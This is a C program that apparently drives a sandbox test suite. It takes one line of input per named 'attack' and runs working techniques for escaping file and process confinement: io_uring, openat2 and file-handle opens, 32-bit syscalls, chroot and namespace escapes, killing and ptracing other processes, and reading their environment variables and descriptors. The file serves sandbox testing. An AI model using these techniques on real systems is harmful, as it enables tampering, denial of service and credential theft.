/* Attacks in C: one line of input each, as "number, mechanism, target, spare" with tabs between. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <libgen.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *number = "";

static int put(int file) {
    int done = file >= 0 && write(file, "taken", 5) == 5 ? 0 : -1;
    if (file >= 0) close(file);
    return done;
}

static int show(int file) {
    char text[4096];
    if (file < 0) return -1;
    int length = pread(file, text, sizeof text, 0);
    if (length <= 0) length = read(file, text, sizeof text);
    close(file);
    if (length <= 0) return -1;
    for (int at = 0; at < length; at++) if (text[at] == 0) text[at] = ' ';
    printf("%s %.*s\n", number, length, text);
    return 0;
}

static int folder_of(const char *path) {
    char copy[4096];
    strcpy(copy, path);
    return open(dirname(copy), O_PATH | O_DIRECTORY);
}

static const char *name_of(const char *path) { return strrchr(path, '/') + 1; }

static int opened2(const char *path, int flags) {
    struct open_how how = {.flags = flags};
    return syscall(SYS_openat2, folder_of(path), name_of(path), &how, sizeof how);
}

/* Opens a file by a ring of requests, which the kernel works on apart from the calls of the process. */
static int opened_by_ring(const char *path, int flags) {
    struct io_uring_params params = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0) return -1;
    char *queue = mmap(0, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_cqe *cqes;
    char *done = mmap(0, params.cq_off.cqes + params.cq_entries * sizeof *cqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(0, params.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)path;
    sqe->open_flags = flags;
    *(unsigned *)(queue + params.sq_off.array) = 0;
    ++*(volatile unsigned *)(queue + params.sq_off.tail);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) return -1;
    cqes = (void *)(done + params.cq_off.cqes);
    return cqes[0].res;
}

struct by_handle { struct file_handle handle; char room[128]; };

static int opened_by_handle(const char *path, int flags) {
    struct by_handle of = {.handle = {.handle_bytes = 128}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, path, &of.handle, &mount, 0) < 0) return -1;
    return open_by_handle_at(open(".", O_RDONLY), &of.handle, flags);
}

static int in_child(int (*act)(const char *), const char *target) {
    int status;
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) { int done = act(target); fflush(stdout); _exit(done == 0 ? 0 : 1); }
    waitpid(child, &status, 0);
    return status == 0 ? 0 : -1;
}

static void as_root_of_its_own(void) {
    uid_t uid = getuid();
    if (unshare(CLONE_NEWUSER) < 0) return;
    char map[64];
    int length = sprintf(map, "0 %d 1", uid), file = open("/proc/self/uid_map", O_WRONLY);
    if (file >= 0) { write(file, map, length); close(file); }
}

/* Every mount on the way to a target loses what it adds, as far as the kernel lets it. */
static void mount_anew(const char *target) {
    char part[4096];
    mount("none", "/", 0, MS_REC | MS_PRIVATE, 0);
    for (const char *end = target; end; end = strchr(end + 1, '/')) {
        int length = end == target ? 1 : end - target;
        snprintf(part, length + 1, "%s", target);
        mount(0, part, 0, MS_REMOUNT | MS_BIND, 0);
    }
    mount(0, target, 0, MS_REMOUNT | MS_BIND, 0);
    umount2(target, MNT_DETACH);
}

static int put_by_name(const char *target) { return put(open(target, O_WRONLY)); }
static int show_by_name(const char *target) { return show(open(target, O_RDONLY)); }

static int mounted_act(const char *target) {
    if (unshare(CLONE_NEWNS) < 0) { as_root_of_its_own(); unshare(CLONE_NEWNS); }
    mount_anew(target);
    return put_by_name(target);
}

static int users_act(const char *target) {
    as_root_of_its_own();
    if (unshare(CLONE_NEWNS) < 0) return -1;
    mount_anew(target);
    return put_by_name(target);
}

static int users_show(const char *target) {
    as_root_of_its_own();
    unshare(CLONE_NEWNS);
    mount_anew(target);
    char copy[4096];
    strcpy(copy, target);
    umount2(dirname(copy), MNT_DETACH);
    return show_by_name(target);
}

/* A copy of the tree of mounts, made writable and put in another place. */
static int tree_act(const char *target) {
    if (unshare(CLONE_NEWNS) < 0) { as_root_of_its_own(); unshare(CLONE_NEWNS); }
    int tree = syscall(SYS_open_tree, folder_of(target), "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
    struct { __u64 set, clear, propagation, users; } change = {.clear = 1};
    syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &change, sizeof change);
    return put(openat(tree, name_of(target), O_WRONLY));
}

static int victim_spaces(const char *target) {
    int process = syscall(SYS_pidfd_open, atoi(getenv("VICTIM")), 0);
    if (setns(process, CLONE_NEWNS | CLONE_NEWPID) < 0 && setns(process, CLONE_NEWUSER) < 0) return -1;
    return put_by_name(target);
}

static int change_mapped(const char *target) {
    int file = open(target, O_RDWR);
    char *memory = file < 0 ? MAP_FAILED : mmap(0, 8, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (memory == MAP_FAILED) return -1;
    memory[0] = '!';
    return 0;
}

static int cloned_act(void *target) { return put_by_name(target); }

static int change_cloned(const char *target) {
    static char stack[65536];
    int status;
    pid_t child = clone(cloned_act, stack + sizeof stack, CLONE_FS | CLONE_FILES | SIGCHLD, (void *)target);
    waitpid(child, &status, 0);
    return 0;
}

static int change_by_tty(const char *target) { return put(open(target, O_WRONLY | O_NOCTTY | O_SYNC)); }
static int change_direct(const char *target) { return put(openat(folder_of(target), name_of(target), O_WRONLY | O_CLOEXEC)); }
static int change_openat2(const char *target) { return put(opened2(target, O_WRONLY)); }
static int change_ring(const char *target) { return put(opened_by_ring(target, O_WRONLY)); }
static int change_handle(const char *target) { return put(opened_by_handle(target, O_WRONLY)); }
static int change_truncated(const char *target) { return truncate(target, 0); }
static int change_mounted(const char *target) { return in_child(mounted_act, target); }
static int change_users(const char *target) { return in_child(users_act, target); }
static int change_tree(const char *target) { return in_child(tree_act, target); }
static int change_spaces(const char *target) { return in_child(victim_spaces, target); }

static int chroot_act(const char *target) {
    int root = open("/", O_PATH);
    if (chroot(".") < 0) return -1;
    fchdir(root);
    for (int at = 0; at < 20; at++) chdir("..");
    chroot(".");
    return put_by_name(target);
}
static int change_chroot(const char *target) { return in_child(chroot_act, target); }

static int change_other_call(const char *target) {
#ifdef __x86_64__
    /* The same call by the numbers of 32 bits. */
    char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(low, target);
    int file;
    __asm__ volatile("int $0x80" : "=a"(file) : "a"(5), "b"((unsigned)(unsigned long)low), "c"(O_WRONLY), "d"(0) : "memory");
    if (file < 0) return -1;
    return put(file);
#else
    return put_by_name(target);
#endif
}

static int change_descriptor(const char *target) {
    int file = open(target, O_PATH);
    char path[64];
    sprintf(path, "/proc/self/fd/%d", file);
    return put(open(path, O_WRONLY));
}

static int change_vectors(const char *target) {
    struct iovec one = {"taken", 5};
    int file = open(target, O_WRONLY);
    return file < 0 ? -1 : pwritev2(file, &one, 1, 0, 0) == 5 ? 0 : -1;
}

static int deleted_at(const char *target) { return unlinkat(folder_of(target), name_of(target), 0); }

static int make_at(const char *target) { return put(openat(folder_of(target), name_of(target), O_WRONLY | O_CREAT, 0600)); }
static int make_creat(const char *target) { return put(creat(target, 0600)); }
static int make_folder(const char *target) { return mkdirat(folder_of(target), name_of(target), 0700); }
static int make_link(const char *target) { return symlinkat("/etc/hostname", folder_of(target), name_of(target)); }
static int make_node(const char *target) { return mknod(target, S_IFREG | 0600, 0); }
static int make_pipe(const char *target) { return mknod(target, S_IFIFO | 0600, 0); }
static int make_unnamed(const char *target) {
    int file = open(".", O_TMPFILE | O_RDWR, 0600);
    char path[64];
    sprintf(path, "/proc/self/fd/%d", file);
    return linkat(AT_FDCWD, path, AT_FDCWD, target, AT_SYMLINK_FOLLOW);
}
static int make_unnamed_there(const char *target) {
    char copy[4096];
    strcpy(copy, target);
    int file = open(dirname(copy), O_TMPFILE | O_RDWR, 0600);
    char path[64];
    sprintf(path, "/proc/self/fd/%d", file);
    return file < 0 ? -1 : linkat(AT_FDCWD, path, AT_FDCWD, target, AT_SYMLINK_FOLLOW);
}

static int read_openat2(const char *target) { return show(opened2(target, O_RDONLY)); }
static int read_ring(const char *target) { return show(opened_by_ring(target, O_RDONLY)); }
static int read_handle(const char *target) { return show(opened_by_handle(target, O_RDONLY)); }
static int read_users(const char *target) { return in_child(users_show, target); }
static int read_root(const char *target) {
    return show(openat(open("/proc/self/root", O_PATH), target + 1, O_RDONLY));
}

static int mode_at(const char *target) { return fchmodat(folder_of(target), name_of(target), 0777, 0); }
static int times_at(const char *target) {
    struct timespec times[2] = {{1, 0}, {1, 0}};
    return utimensat(folder_of(target), name_of(target), times, 0);
}

static int end_kill(const char *target) { return kill(atoi(target), SIGKILL); }
static int end_queue(const char *target) { return sigqueue(atoi(target), SIGKILL, (union sigval){0}); }
static int end_file(const char *target) {
    return syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, atoi(target), 0), SIGKILL, 0, 0);
}
static int end_traced(const char *target) {
    int status, pid = atoi(target);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return -1;
    waitpid(pid, &status, __WALL);
    return ptrace(PTRACE_KILL, pid, 0, 0);
}
static int end_limited(const char *target) {
    struct rlimit none = {0, 0};
    return prlimit(atoi(target), RLIMIT_CPU, &none, 0);
}
static int slow(const char *target) { return setpriority(PRIO_PROCESS, atoi(target), 19); }

static int spy_seized(const char *target) {
    int pid = atoi(target), status;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return -1;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, &status, __WALL);
    char path[64];
    sprintf(path, "/proc/%d/environ", pid);
    int done = show(open(path, O_RDONLY));
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return done;
}
static int spy_file(const char *target) {
    int process = syscall(SYS_pidfd_open, atoi(target), 0);
    return show(syscall(SYS_pidfd_getfd, process, 0, 0));
}
static int spy_environ(const char *target) {
    char path[64];
    sprintf(path, "/proc/%s/environ", target);
    return show(open(path, O_RDONLY));
}

static const struct { const char *kind, *name; int (*act)(const char *); } ALL[] = {
    {"change", "open", put_by_name},
    {"change", "open-synchronous", change_by_tty},
    {"change", "folder-file", change_direct},
    {"change", "openat2", change_openat2},
    {"change", "ring", change_ring},
    {"change", "handle", change_handle},
    {"change", "truncate", change_truncated},
    {"change", "mapped", change_mapped},
    {"change", "vectors", change_vectors},
    {"change", "cloned", change_cloned},
    {"change", "path-file", change_descriptor},
    {"change", "call-of-32-bits", change_other_call},
    {"change", "chroot-twice", change_chroot},
    {"change", "mounted-anew", change_mounted},
    {"change", "users-of-its-own", change_users},
    {"change", "tree-of-mounts", change_tree},
    {"change", "spaces-of-another", change_spaces},
    {"change", "deleted-in-folder-file", deleted_at},
    {"make", "create-in-folder-file", make_at},
    {"make", "create", make_creat},
    {"make", "folder", make_folder},
    {"make", "linked", make_link},
    {"make", "node", make_node},
    {"make", "pipe", make_pipe},
    {"make", "unnamed", make_unnamed},
    {"make", "unnamed-there", make_unnamed_there},
    {"read", "read", show_by_name},
    {"read", "read-openat2", read_openat2},
    {"read", "read-ring", read_ring},
    {"read", "read-handle", read_handle},
    {"read", "read-users-of-its-own", read_users},
    {"read", "read-from-root", read_root},
    {"rights", "mode", mode_at},
    {"rights", "times", times_at},
    {"end", "kill", end_kill},
    {"end", "kill-queued", end_queue},
    {"end", "kill-by-file", end_file},
    {"end", "kill-traced", end_traced},
    {"end", "limit", end_limited},
    {"slow", "slow", slow},
    {"spy", "seized", spy_seized},
    {"spy", "its-file", spy_file},
    {"spy", "environment", spy_environ},
};

int main(int count, char **words) {
    size_t length = sizeof ALL / sizeof *ALL;
    if (count > 1) {
        for (size_t at = 0; at < length; at++) printf("%s %s\n", ALL[at].kind, ALL[at].name);
        return 0;
    }
    char line[16384];
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\n")] = 0;
        char *rest = line;
        number = strsep(&rest, "\t");
        char *name = strsep(&rest, "\t"), *target = strsep(&rest, "\t");
        for (size_t at = 0; at < length; at++)
            if (strcmp(ALL[at].name, name) == 0 && ALL[at].act(target) != 0)
                fprintf(stderr, "%s %s\n", number, strerror(errno));
        fflush(stdout);
    }
    usleep(200000);
    return 0;
}
